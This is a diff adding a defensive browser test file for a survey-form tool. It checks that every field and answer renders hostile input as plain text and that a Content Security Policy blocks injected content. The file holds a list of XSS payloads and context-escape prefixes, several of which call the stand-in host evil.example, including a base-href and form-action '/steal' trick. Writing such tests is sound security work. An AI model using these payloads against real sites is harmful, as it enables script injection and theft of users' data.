@@ -1,0 +1,122 @@
+// SPDX-FileCopyrightText: 2026 The Soundings authors
+// SPDX-License-Identifier: GPL-3.0-or-later
+
+// Whatever stands in a form or in an answer is text: it runs nothing, asks for nothing, and comes back as it was.
+import assert from "node:assert/strict";
+import { after, before, test } from "node:test";
+
+import { cleanUp, openBrowser, openPage, readBack, sampleForm, saveFile, writePage } from "./harness.mjs";
+
+// Ways to run something or to fetch something, each in a place that it was made for.
+const deeds = [
+  `<script>ran=1</script>`,
+  `<script src="https://evil.example/a.js"></script>`,
+  `<img src=x onerror=ran=1>`,
+  `<svg/onload=ran=1>`,
+  `<iframe srcdoc="<script>parent.ran=1</script>"></iframe>`,
+  `<a href="javascript:ran=1" autofocus onfocus=ran=1>x</a>`,
+  `<link rel=stylesheet href=https://evil.example/a.css>`,
+  `<style>@import url(https://evil.example/b.css);*{display:none}</style>`,
+  `<meta http-equiv=refresh content="0;url=https://evil.example/">`,
+  `<base href=https://evil.example/><form action=/steal><button autofocus>Save my answers</button></form>`,
+  `<object data=https://evil.example/c></object><embed src=https://evil.example/d>`,
+  `<details open ontoggle=ran=1><video src=https://evil.example/e autoplay>`,
+  `<template><slot onslotchange=ran=1></slot></template><math><mtext></mtext><mglyph>`,
+  `javascript:ran=1//`,
+  `";ran=1;//\`;ran=1;//';ran=1;//`,
+  `\${ran=1}#{ran=1}{{script}}{{ran=1}}`,
+  `\\u003cscript\\u003eran=1\\u003c/script\\u003e`,
+  `&lt;script&gt;ran=1&lt;/script&gt;&#60;img src=x onerror=ran=1&#62;`,
+  `+ADw-script+AD4-ran=1+ADw-/script+AD4-`,
+  `__proto__ constructor toString "},"until":"0001-01-01","__proto__":{"x":"`,
+];
+// Ways to get out of the place first.
+const escapes = ["", `"'>`, "</script>", "--></title></style><!--<script>", "</option></select></textarea></legend>", "x\u2028]]>\\\"\\\u2029"];
+const vectors = escapes.flatMap((escape) => deeds.map((deed) => escape + deed));
+
+function hostileForm(vector) {
+  const form = sampleForm();
+  form.title = form.introduction = vector;
+  form.functions = [{ id: vector, text: vector }, { id: "sales", text: "Sales" }];
+  for (const field of form.fields) {
+    field.id += vector;
+    field.label = field.help = vector;
+    for (const choice of field.choices || []) Object.assign(choice, { id: choice.id + vector, text: vector });
+  }
+  return form;
+}
+
+let browser;
+before(async () => { browser = await openBrowser(); });
+after(async () => {
+  await browser.close();
+  cleanUp();
+});
+
+const elements = (page) => page.evaluate(() => {
+  const counts = {};
+  for (const node of document.querySelectorAll("*")) counts[node.tagName] = (counts[node.tagName] || 0) + 1;
+  return counts;
+});
+
+test("there are 120 different ones", () => {
+  assert.equal(new Set(vectors).size, 120);
+});
+
+test("in every field of the form and in every answer they are text", async () => {
+  const plain = await openPage(browser, writePage(sampleForm()));
+  // One function less than in the sample; help where the sample has none.
+  const expected = await elements(plain.page);
+  expected.OPTION -= 1;
+  expected.P += sampleForm().fields.filter((field) => !field.help).length;
+  await plain.close();
+
+  for (const vector of vectors) {
+    const form = hostileForm(vector), written = writePage(form);
+    const { page, watched, close } = await openPage(browser, written);
+    assert.deepEqual(await elements(page), expected, vector);
+    assert.equal(await page.locator("#title").textContent(), vector);
+    assert.equal(await page.locator("#introduction").textContent(), vector);
+    assert.equal(await page.evaluate(() => document.querySelectorAll("option")[1].textContent), vector);
+    assert.equal(await page.locator(".choice span").first().textContent(), vector);
+
+    await page.getByRole("button", { name: "Save my answers", exact: true }).click(); // says the labels again, as errors
+    await page.locator("#about input").first().fill(vector);
+    await page.locator("select").selectOption({ index: 1 });
+    await page.locator("#fields textarea").fill(vector);
+    await page.locator("#fields input[type=radio]").first().check();
+    await page.locator("#fields input[type=text]").first().fill(vector);
+    const said = (await page.locator("#fields input[type=text]").first().inputValue());
+    await page.reload();
+    assert.equal(await page.locator("#fields textarea").inputValue(), vector);
+    const { name, text } = await saveFile(page);
+    assert.match(name, /^answers-[\p{L}\p{M}\p{N}-]+\.soundings-answers\.json$/u);
+    const file = readBack(text, written);
+    const [saw, cause, only] = form.fields;
+    assert.deepEqual(file.answers, { [saw.id]: vector, [cause.id]: cause.choices[0].id, [only.id]: said }, vector);
+    assert.equal(said, vector);
+    assert.equal(file.person, vector);
+    assert.equal(file.function, vector);
+    assert.equal(await page.evaluate(() => typeof window.ran), "undefined");
+    assert.deepEqual(watched, [], vector);
+    await close();
+  }
+});
+
+test("the policy stops what would come in all the same", async () => {
+  const { page, watched, close } = await openPage(browser, writePage(sampleForm()));
+  await page.evaluate(() => {
+    const holder = document.createElement("div");
+    holder.innerHTML = `<img src=https://evil.example/a onerror="ran=1"><iframe src=https://evil.example/></iframe>`;
+    document.body.append(holder);
+    const script = document.createElement("script");
+    script.textContent = "window.ran = 1";
+    document.body.append(script);
+  });
+  await page.waitForFunction(() => document.querySelector("iframe").contentDocument !== undefined);
+  await assert.rejects(page.evaluate(() => fetch("https://evil.example/")));
+  assert.equal(await page.evaluate(() => typeof window.ran), "undefined");
+  assert.ok(watched.some((what) => what.startsWith("console:") && what.includes("Content Security Policy")));
+  assert.deepEqual(watched.filter((what) => what.startsWith("request:")), []);
+  await close();
+});
